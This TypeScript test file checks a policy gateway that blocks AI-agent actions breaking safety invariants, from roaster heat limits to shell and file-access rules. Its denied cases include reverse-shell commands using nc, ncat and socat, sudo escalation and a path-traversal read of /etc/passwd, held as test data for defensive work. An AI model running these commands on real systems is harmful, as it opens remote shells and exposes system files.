/**
 * The shipped invariants through the real Wasm bundle (policies + invariants compiled by OPA):
 * each one denies a violating action and lets a compliant one through; the property tests
 * bite when an invariant is weakened in the compiled policy; malformed files fail as a whole
 * with file:line:col.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { beforeAll, describe, expect, it } from 'vitest';
import { withContextDefaults } from '../gateway/decide/defaults.ts';
import { decide } from '../gateway/decide/pipeline.ts';
import { compileInvariants } from '../gateway/invariants/compile.ts';
import { invariantJsonSchema } from '../gateway/invariants/dsl.ts';
import { readInvariantSources } from '../gateway/invariants/load.ts';
import { describeFailure, testInvariant } from '../gateway/invariants/property.ts';
import {
  defaultCacheDir,
  defaultInvariantsDir,
  defaultPolicyDir,
  projectRoot,
} from '../gateway/paths.ts';
import { compilePolicy } from '../gateway/policy/compile.ts';
import { PolicyEngine } from '../gateway/policy/engine.ts';
import { mergePolicyData } from '../gateway/policy/load-data.ts';
import { readPolicySources } from '../gateway/policy/sources.ts';
import { loadEvaluator } from '../gateway/policy/wasm-policy.ts';
import { PolicyCompileError } from '../gateway/schema/errors.ts';
import { HIDDEN_RANGES } from '../gateway/schema/hidden-characters.ts';
import type { PolicyEvaluator } from '../gateway/schema/evaluator.ts';
import { shippedEvaluator } from './helpers/default-policy.ts';

let evaluator: PolicyEvaluator;
beforeAll(async () => {
  evaluator = await shippedEvaluator();
}, 120_000);

const NOW = Date.UTC(2026, 10, 23, 12, 0, 0);

interface Case {
  kind: string;
  params: Record<string, unknown>;
  state?: Record<string, unknown>;
  level?: string;
  actor?: { id: string; roles: string[] };
  counts?: Record<string, number>;
  last?: Record<string, unknown>;
  minute?: number;
  batch?: number;
}

function run(c: Case) {
  const context = withContextDefaults(
    {
      level: c.level ?? 'L3',
      state: c.state ?? {},
      history: {
        last: c.last ? { [c.kind]: c.last } : {},
        rate: {},
        ...(c.counts ? { counts: c.counts } : {}),
      },
      clock: { minute: c.minute ?? 720, weekday: 1 },
      ...(c.batch ? { batch: { size: c.batch } } : {}),
    },
    NOW,
    evaluator.data.invariant_manifest,
  );
  return decide(
    {
      envelope: { kind: c.kind, target: 'target-1', params: c.params },
      actor: c.actor ?? { id: 'agent-1', roles: ['agent'] },
      context,
    },
    evaluator,
  );
}

const roaster = {
  mode: 'RUNNING',
  power: 40,
  fan: 3,
  drumRpm: 60,
  airflow: 30,
  beanTemp: 150,
  tripped: false,
};
const cases: [id: string, violating: Case, compliant: Case][] = [
  [
    'INV.ROASTER.FAN_WHILE_HEAT',
    { kind: 'roaster.set_power', params: { value: 40 }, state: { ...roaster, fan: 0 } },
    { kind: 'roaster.set_power', params: { value: 40 }, state: roaster },
  ],
  [
    'INV.ROASTER.POWER_RAMP',
    {
      kind: 'roaster.set_power',
      params: { value: 60 },
      state: roaster,
      last: { at: NOW - 1000, value: 40, params: { value: 40 } },
    },
    {
      kind: 'roaster.set_power',
      params: { value: 60 },
      state: roaster,
      last: { at: NOW - 10_000, value: 40, params: { value: 40 } },
    },
  ],
  [
    'INV.ROASTER.NO_HEAT_DRUM_STOPPED',
    { kind: 'roaster.set_drum', params: { rpm: 0 }, state: roaster },
    { kind: 'roaster.set_drum', params: { rpm: 30 }, state: roaster },
  ],
  [
    'INV.ROASTER.BEAN_TEMP_CEILING',
    { kind: 'roaster.set_power', params: { value: 45 }, state: { ...roaster, beanTemp: 235 } },
    { kind: 'roaster.set_power', params: { value: 35 }, state: { ...roaster, beanTemp: 235 } },
  ],
  [
    'INV.ROASTER.ROLLBACK_BEAN_TEMP_CEILING',
    {
      kind: 'roaster.rollback',
      params: { checkpoint: 'cp-1', power: 60, fan: 3, drum_rpm: 60, airflow: 30 },
      state: { ...roaster, beanTemp: 235 },
    },
    {
      kind: 'roaster.rollback',
      params: { checkpoint: 'cp-1', power: 30, fan: 3, drum_rpm: 60, airflow: 30 },
      state: { ...roaster, beanTemp: 235 },
    },
  ],
  [
    'INV.ROASTER.ROLLBACK_NOT_WHILE_TRIPPED',
    {
      kind: 'roaster.rollback',
      params: { checkpoint: 'cp-1', power: 30, fan: 3, drum_rpm: 60, airflow: 30 },
      state: { ...roaster, tripped: true },
    },
    {
      kind: 'roaster.rollback',
      params: { checkpoint: 'cp-1', power: 0, fan: 3, drum_rpm: 60, airflow: 30 },
      state: { ...roaster, tripped: true },
    },
  ],
  [
    'INV.ROASTER.PREHEAT_FROM_OFF',
    { kind: 'roaster.preheat', params: { target_temp: 200 }, state: roaster },
    { kind: 'roaster.preheat', params: { target_temp: 200 }, state: { ...roaster, mode: 'OFF' } },
  ],
  [
    'INV.ROASTER.NO_HEAT_WHILE_TRIPPED',
    { kind: 'roaster.set_power', params: { value: 20 }, state: { ...roaster, tripped: true } },
    { kind: 'roaster.set_power', params: { value: 0 }, state: { ...roaster, tripped: true } },
  ],
  [
    'INV.ROASTER.DRUM_TURNING_AT_CHARGE',
    { kind: 'roaster.charge', params: {}, state: { ...roaster, drumRpm: 10 } },
    { kind: 'roaster.charge', params: {}, state: roaster },
  ],
  [
    'INV.ROASTER.COOLING_AIRFLOW',
    {
      kind: 'roaster.cooling_cycle',
      params: { duration_s: 60 },
      state: { ...roaster, airflow: 10 },
    },
    { kind: 'roaster.cooling_cycle', params: { duration_s: 60 }, state: roaster },
  ],
  [
    'INV.ROASTER.SETPOINT_BURST',
    {
      kind: 'roaster.set_power',
      params: { value: 40 },
      state: roaster,
      counts: { 'roaster.set_power@10000': 10 },
    },
    {
      kind: 'roaster.set_power',
      params: { value: 40 },
      state: roaster,
      counts: { 'roaster.set_power@10000': 9 },
    },
  ],
  [
    'INV.SHELL.BATCH_SIZE',
    { kind: 'shell.exec', params: { command: 'ls' }, batch: 11 },
    { kind: 'shell.exec', params: { command: 'ls' }, batch: 10 },
  ],
  [
    'INV.SHELL.NO_NETWORK_TOOLS',
    {
      kind: 'shell.exec',
      params: { command: "sh -c 'echo hi; /usr/bin/curl https://example.com'" },
    },
    { kind: 'shell.exec', params: { command: 'echo curl' } },
  ],
  [
    'INV.SHELL.NO_NETWORK_TOOLS',
    { kind: 'shell.exec', params: { command: "'curl' https://example.com" } },
    { kind: 'shell.exec', params: { command: 'cat curl.txt' } },
  ],
  [
    'INV.SHELL.NO_NETWORK_TOOLS',
    { kind: 'shell.exec', params: { argv: ['/bin/nc', '-e', '/bin/sh', 'host', '1'] } },
    { kind: 'shell.exec', params: { argv: ['echo', 'nc -e'] } },
  ],
  [
    'INV.SHELL.NO_NETWORK_TOOLS',
    { kind: 'shell.exec', params: { command: 'nice ncat --exec /bin/sh host 1' } },
    { kind: 'shell.exec', params: { command: 'grep ncat log' } },
  ],
  [
    'INV.SHELL.NO_NETWORK_TOOLS',
    { kind: 'shell.exec', params: { command: 'socat tcp:host:1 exec:sh' } },
    { kind: 'shell.exec', params: { command: 'echo exec:sh' } },
  ],
  [
    'INV.SHELL.NO_NETWORK_TOOLS',
    { kind: 'shell.exec', params: { command: 'rsync -e /usr/bin/ssh a host:b' } },
    { kind: 'shell.exec', params: { command: 'ls rsync' } },
  ],
  [
    'INV.SHELL.WORKSPACE_ONLY',
    { kind: 'shell.exec', params: { command: 'echo x', cwd: '/etc' } },
    { kind: 'shell.exec', params: { command: 'echo x', cwd: '/workspace/app' } },
  ],
  [
    'INV.SHELL.NO_PRIVILEGE_ESCALATION',
    { kind: 'shell.exec', params: { command: 'sudo ls' } },
    { kind: 'shell.exec', params: { command: 'cat sudoers.txt' } },
  ],
  [
    'INV.SHELL.NO_PRIVILEGE_ESCALATION',
    { kind: 'shell.exec', params: { command: "bash -c '/usr/bin/sudo id'" } },
    { kind: 'shell.exec', params: { command: 'echo sudo' } },
  ],
  [
    'INV.SHELL.RATE',
    { kind: 'shell.exec', params: { command: 'ls' }, counts: { 'shell.exec@60000': 20 } },
    { kind: 'shell.exec', params: { command: 'ls' }, counts: { 'shell.exec@60000': 19 } },
  ],
  [
    'INV.BUDGET.CAP',
    {
      kind: 'agent.model_call',
      params: { model: 'm', estimated_cost_usd: 1 },
      state: { total_spend_usd: 9.5, budget_usd: 10 },
    },
    {
      kind: 'agent.model_call',
      params: { model: 'm', estimated_cost_usd: 0.5 },
      state: { total_spend_usd: 9.5, budget_usd: 10 },
    },
  ],
  [
    'INV.BUDGET.PER_CALL',
    {
      kind: 'agent.model_call',
      params: { model: 'm', estimated_cost_usd: 6 },
      state: { total_spend_usd: 0, budget_usd: 100 },
    },
    {
      kind: 'agent.model_call',
      params: { model: 'm', estimated_cost_usd: 5 },
      state: { total_spend_usd: 0, budget_usd: 100 },
    },
  ],
  [
    'INV.AUTONOMY.ADMIN_ONLY',
    { kind: 'agent.set_level', params: { target_id: 'roaster-1', level: 'L4' } },
    {
      kind: 'agent.set_level',
      params: { target_id: 'roaster-1', level: 'L4' },
      actor: { id: 'root', roles: ['admin'] },
    },
  ],
  [
    'INV.RADIO.AD_SPACING',
    {
      kind: 'radio.ad.insert',
      params: { block: 'b1', campaign: 'c', campaign_pool: 'daypart', catalog: 'approved' },
      state: { mode: 'live' },
      counts: { 'radio.ad.insert@900000': 1 },
    },
    {
      kind: 'radio.ad.insert',
      params: { block: 'b1', campaign: 'c', campaign_pool: 'daypart', catalog: 'approved' },
      state: { mode: 'live' },
    },
  ],
  [
    'INV.RADIO.OVERNIGHT_CONTENT_WINDOW',
    {
      kind: 'radio.script.publish',
      params: { script: 's', daypart: 'overnight' },
      state: { mode: 'live' },
      minute: 720,
    },
    {
      kind: 'radio.script.publish',
      params: { script: 's', daypart: 'overnight' },
      state: { mode: 'live' },
      minute: 120,
    },
  ],
  [
    'INV.RADIO.OVERNIGHT_CAMPAIGNS',
    {
      kind: 'radio.ad.insert',
      params: { block: 'b1', campaign: 'c', campaign_pool: 'daypart', catalog: 'approved' },
      state: { mode: 'live' },
      minute: 60,
    },
    {
      kind: 'radio.ad.insert',
      params: {
        block: 'b1',
        campaign: 'c',
        campaign_pool: 'overnight',
        catalog: 'overnight_approved',
      },
      state: { mode: 'live' },
      minute: 60,
    },
  ],
  [
    'INV.RADIO.APPROVED_CATALOG',
    {
      kind: 'radio.playlist.commit',
      params: { block: 'b1', tracks: 12, catalog: 'bootleg' },
      state: { mode: 'live' },
    },
    {
      kind: 'radio.playlist.commit',
      params: { block: 'b1', tracks: 12, catalog: 'approved' },
      state: { mode: 'live' },
    },
  ],
  [
    'INV.RADIO.SAFE_LOOP_HOLDS',
    {
      kind: 'radio.playlist.commit',
      params: { block: 'b1', tracks: 12, catalog: 'approved' },
      state: { mode: 'safe_loop' },
    },
    { kind: 'radio.rollback', params: { subsystem: 'all' }, state: { mode: 'safe_loop' } },
  ],
  [
    'INV.MCP.FILES_UNDER_ROOT',
    {
      kind: 'mcp.files.read_text_file',
      params: { path: '/srv/files/../etc/passwd' },
      state: { mode: 'CONNECTED', root: '/srv/files/' },
    },
    {
      kind: 'mcp.files.read_text_file',
      params: { path: '/srv/files/notes.txt' },
      state: { mode: 'CONNECTED', root: '/srv/files/' },
    },
  ],
  [
    'INV.MCP.FILES_MOVE_UNDER_ROOT',
    {
      kind: 'mcp.files.move_file',
      params: { source: '/srv/files/a', destination: '/srv/files-evil/a' },
      state: { mode: 'CONNECTED', root: '/srv/files/' },
    },
    {
      kind: 'mcp.files.move_file',
      params: { source: '/srv/files/a', destination: '/srv/files/b' },
      state: { mode: 'CONNECTED', root: '/srv/files/' },
    },
  ],
  [
    'INV.GENERIC.ACTOR',
    { kind: 'roaster.abort', params: {}, state: roaster, actor: { id: '', roles: [] } },
    { kind: 'roaster.abort', params: {}, state: roaster },
  ],
];

describe('every shipped invariant, through the real Wasm bundle', () => {
  it('covers all of them (at least 20)', () => {
    const shipped = evaluator.data.invariant_manifest!.ids;
    expect(shipped.length).toBeGreaterThanOrEqual(20);
    expect(new Set(cases.map(([id]) => id))).toEqual(new Set(shipped));
  });

  it.each(cases)(
    '%s denies a violating action and lets a compliant one through',
    (id, violating, compliant) => {
      const bad = run(violating);
      expect(bad.effect).toBe('deny');
      const v = bad.invariants.find((x) => x.id === id);
      expect(v, JSON.stringify(bad)).toBeDefined();
      expect(v!.message).not.toMatch(/\{\{/);
      expect(Object.keys(v!.values ?? {}).length).toBeGreaterThan(0);
      const good = run(compliant);
      expect(
        good.invariants.map((x) => x.id),
        JSON.stringify(good.invariants),
      ).not.toContain(id);
    },
  );

  it('fills messages with the values involved', () => {
    const d = run(cases.find(([id]) => id === 'INV.BUDGET.CAP')![1]);
    expect(d.reasons).toContain('INV.BUDGET.CAP: Budget exceeded: spent 9.5 + 1 > 10');
    expect(d.invariants[0]).toMatchObject({
      id: 'INV.BUDGET.CAP',
      severity: 'critical',
      values: {
        'state.total_spend_usd': 9.5,
        'params.estimated_cost_usd': 1,
        'state.budget_usd': 10,
      },
    });
  });

  it('a rollback is never automatic: at L5 it still waits for two people', () => {
    const d = run({
      kind: 'roaster.rollback',
      params: { checkpoint: 'cp-1', power: 30, fan: 3, drum_rpm: 60, airflow: 30 },
      state: roaster,
      level: 'L5',
    });
    expect(d.effect, JSON.stringify(d)).toBe('require_approval');
    expect(d.approval?.count).toBe(2);
  });

  it('shows a time of day as a clock time in the configured zone, not a minute count', () => {
    const d = run({
      ...cases.find(([id]) => id === 'INV.RADIO.OVERNIGHT_CONTENT_WINDOW')![1],
      minute: 896,
    });
    expect(d.reasons.join('\n')).toContain("it is 14:56 in the station's time zone");
    expect(d.reasons.join('\n')).not.toContain('896');
  });

  it('the filesystem pack denies a path that hides characters, even under the root', () => {
    const state = { mode: 'CONNECTED', root: '/srv/files/' };
    // Every end and the middle of every range of the gateway's hidden characters (the list the
    // shell path refuses): the pack's class must be that whole list, not a part of it.
    const hidden = HIDDEN_RANGES.flatMap(([lo, hi]) =>
      [...new Set([lo, hi, Math.floor((lo + hi) / 2)])].map((cp) => String.fromCodePoint(cp)),
    );
    for (const c of hidden) {
      const path = `/srv/files/a${c}b`;
      for (const d of [
        run({ kind: 'mcp.files.write_file', params: { path, content: 'x' }, state }),
        run({
          kind: 'mcp.files.move_file',
          params: { source: '/srv/files/a', destination: path },
          state,
        }),
        run({
          kind: 'mcp.files.move_file',
          params: { source: path, destination: '/srv/files/a' },
          state,
        }),
      ]) {
        expect(d.effect, JSON.stringify(c)).toBe('deny');
        expect(d.reasons.join('\n')).toMatch(/bidirectional or invisible character/);
      }
    }
    const plain = run({
      kind: 'mcp.files.write_file',
      params: { path: '/srv/files/a b.txt', content: 'x' },
      state,
    });
    expect(plain.invariants).toEqual([]);
  });

  it('a missing value fails closed: the invariant is violated, not skipped', () => {
    const d = run({
      kind: 'agent.model_call',
      params: { model: 'm', estimated_cost_usd: 1 },
      state: {},
    });
    expect(d.invariants.map((x) => x.id)).toContain('INV.BUDGET.CAP');
    expect(d.invariants.find((x) => x.id === 'INV.BUDGET.CAP')!.values).toMatchObject({
      'state.budget_usd': null,
    });
  });
});

describe('property tests', () => {
  it('hold for every shipped invariant', async () => {
    const files = await readInvariantSources(defaultInvariantsDir);
    const { loaded } = await compileInvariants(files, evaluator.data);
    for (const li of loaded) {
      const r = testInvariant(li, evaluator, evaluator.data, { runs: 60, seed: 42 });
      expect(r.ok, describeFailure(r)).toBe(true);
      expect(r.decisions).toBeGreaterThan(60);
    }
  }, 120_000);

  it('fail, naming the invariant and a counterexample, when the compiled policy weakens it', async () => {
    const files = await readInvariantSources(defaultInvariantsDir);
    const data = mergePolicyData(await readPolicySources(defaultPolicyDir));
    const compiled = await compileInvariants(files, data);
    // The mutation: the ramp limit in the generated Rego goes from 5 to 50 units per second.
    const mutated = compiled.sources.map((s) =>
      s.kind === 'rego'
        ? {
            ...s,
            content: s.content.replace(
              'L.num(L.ramp("value")) <= L.num(5)',
              'L.num(L.ramp("value")) <= L.num(50)',
            ),
          }
        : s,
    );
    expect(mutated.find((s) => s.kind === 'rego')!.content).toContain('<= L.num(50)');
    const weak = await loadEvaluator(
      await compilePolicy({
        policyDir: defaultPolicyDir,
        cacheDir: defaultCacheDir,
        extraSources: mutated,
      }),
    );
    const li = compiled.loaded.find((l) => l.inv.id === 'INV.ROASTER.POWER_RAMP')!;
    const r = testInvariant(li, weak, weak.data, { runs: 300, seed: 7 });
    expect(r.ok).toBe(false);
    const text = describeFailure(r);
    expect(text).toContain('INV.ROASTER.POWER_RAMP: FAILED');
    expect(text).toMatch(/counterexample \(shrunk; seed -?\d+\)/);
    expect(text).toMatch(/step \d+ \(\+\d+ ms\): roaster\.set_power \{"value":/);
    // The same invariant holds against the unweakened bundle with the same seed.
    expect(testInvariant(li, evaluator, evaluator.data, { runs: 300, seed: 7 }).ok).toBe(true);
  }, 120_000);
});

const inv = (expr: string, extra = '') =>
  `invariants:\n  - id: INV.T.ONE\n    description: d\n    severity: high\n    scope: { kinds: [roaster.set_power] }\n${extra}    assert:\n      - expr: ${expr}\n        message: m\n`;

describe('malformed invariant files', () => {
  let policyData: ReturnType<typeof mergePolicyData>;
  beforeAll(async () => {
    policyData = mergePolicyData(await readPolicySources(defaultPolicyDir));
  });
  const compile = (content: string) =>
    compileInvariants([{ path: 'bad.yaml', content }], policyData);
  const errorOf = async (content: string): Promise<string> => {
    try {
      await compile(content);
    } catch (err) {
      expect(err).toBeInstanceOf(PolicyCompileError);
      return (err as Error).message.split('\n')[1]!;
    }
    throw new Error('compiled');
  };

  it('bad YAML', async () => {
    expect(await errorOf('invariants:\n  - id: [unclosed\n')).toMatch(
      /^invariants\/bad\.yaml:3:1: not valid YAML/,
    );
  });
  it('a field the schema does not know, or lacks', async () => {
    expect(
      await errorOf(inv('params.value < 5').replace('severity: high', 'severity: extreme')),
    ).toMatch(/^invariants\/bad\.yaml:4:15: invariants\.0\.severity: /);
  });
  it('an unknown path, at its column', async () => {
    expect(await errorOf(inv('params.valu < 5'))).toBe(
      'invariants/bad.yaml:7:15: unknown path params.valu: no kind in scope (roaster.set_power) has a param "valu"',
    );
    expect(await errorOf(inv('state.temperature < 5'))).toMatch(
      /^invariants\/bad\.yaml:7:15: unknown path state\.temperature: the roaster state has mode, power/,
    );
  });
  it('a type error', async () => {
    expect(await errorOf(inv('params.value < "high"'))).toBe(
      'invariants/bad.yaml:7:15: type error: cannot compare number < string',
    );
    expect(await errorOf(inv('params.value + 1'))).toBe(
      'invariants/bad.yaml:7:15: type error: assert.expr must be a condition (bool), not number',
    );
  });
  it("a bad regex, as OPA's RE2 sees it (JavaScript would accept the lookahead)", async () => {
    expect(await errorOf(inv(`'matches(state.mode, "(unclosed")'`))).toMatch(
      /^invariants\/bad\.yaml:7:36: bad regex: /,
    );
    expect(await errorOf(inv(`'not matches(state.mode, "curl(?=x)")'`))).toMatch(
      /^invariants\/bad\.yaml:7:40: bad regex: "curl\(\?=x\)" does not compile in RE2/,
    );
    // The bundle's RE2 stops reading a pattern at a raw NUL; OPA's own check does not.
    expect(await errorOf(inv(`'not matches(state.mode, "[\\u0000-\\u001F]")'`))).toMatch(
      /bad regex: .* holds a raw NUL, where the bundle's RE2 would stop reading it; write \\x00/,
    );
  });
  it('a glob with syntax beyond * and ?, which the evaluators would read differently', async () => {
    expect(
      await errorOf(
        inv('params.value < 5').replace(
          'kinds: [roaster.set_power]',
          'kinds: ["roaster.set_{power,fan}"]',
        ),
      ),
    ).toMatch(/glob "roaster\.set_\{power,fan\}" uses syntax other than \* and \?/);
    expect(
      await errorOf(
        inv('params.value < 5').replace(
          'kinds: [roaster.set_power]',
          'kinds: [roaster.set_power], targets: ["roaster-[12]"]',
        ),
      ),
    ).toMatch(/glob "roaster-\[12\]"/);
  });
  it('a syntax error, at its column', async () => {
    expect(await errorOf(inv('params.value <'))).toMatch(
      /^invariants\/bad\.yaml:7:29: assert\.0\.expr: Expected /,
    );
  });
  it('a bad message template', async () => {
    expect(
      await errorOf(inv('params.value < 5').replace('message: m', 'message: "at {{params.nope}}"')),
    ).toMatch(/^invariants\/bad\.yaml:8:\d+: in message: unknown path params\.nope/);
  });

  it('never load half a bundle: the engine keeps the running one', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'interlock-inv-'));
    try {
      writeFileSync(path.join(dir, 'ok.yaml'), inv('params.value <= 100'));
      const engine = new PolicyEngine({
        policyDir: defaultPolicyDir,
        cacheDir: defaultCacheDir,
        generate: async () => {
          const { invariantSources } = await import('../gateway/invariants/compile.ts');
          return invariantSources(dir, defaultPolicyDir);
        },
      });
      const first = await engine.reload();
      expect(first.ok).toBe(true);
      const digest = engine.current!.digest;
      expect(engine.current!.data.invariant_manifest!.ids).toEqual(['INV.T.ONE']);
      writeFileSync(path.join(dir, 'broken.yaml'), inv('params.value <= '));
      const second = await engine.reload();
      expect(second.ok).toBe(false);
      expect(second.ok === false && second.error.locations[0]).toMatchObject({
        file: `${path.basename(dir)}/broken.yaml`,
        line: 7,
      });
      expect(engine.current!.digest).toBe(digest);
      engine.close();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});

describe('the invariants CLI', () => {
  const bin = path.join(projectRoot, 'bin', 'interlock.js');
  const interlock = (args: string[]) =>
    execa('node', [bin, ...args], { reject: false, cwd: projectRoot });

  it('check and test pass on the shipped invariants; test --json feeds evidence', async () => {
    const check = await interlock(['invariants', 'check']);
    expect(check.exitCode, check.stderr).toBe(0);
    expect(check.stdout).toMatch(/^\d+ invariants in 6 files compile with the policies/);
    const test = await interlock(['invariants', 'test', '--runs', '30', '--json']);
    expect(test.exitCode, test.stderr).toBe(0);
    expect(JSON.parse(test.stdout)).toMatchObject({
      ok: true,
      summary: expect.stringMatching(/^27 of 27 invariants hold/),
    });
  }, 120_000);

  it('check exits 1 with file:line:col for a malformed file', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'interlock-inv-cli-'));
    try {
      writeFileSync(path.join(dir, 'bad.yaml'), inv('params.valu < 5'));
      const r = await interlock(['invariants', 'check', '--dir', dir]);
      expect(r.exitCode).toBe(1);
      expect(r.stderr).toMatch(/bad\.yaml:7:15: unknown path params\.valu/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('the published JSON Schema is the one the code validates with', () => {
    expect(
      JSON.parse(readFileSync(path.join(projectRoot, 'schemas', 'invariants.schema.json'), 'utf8')),
    ).toEqual(invariantJsonSchema());
  });
});
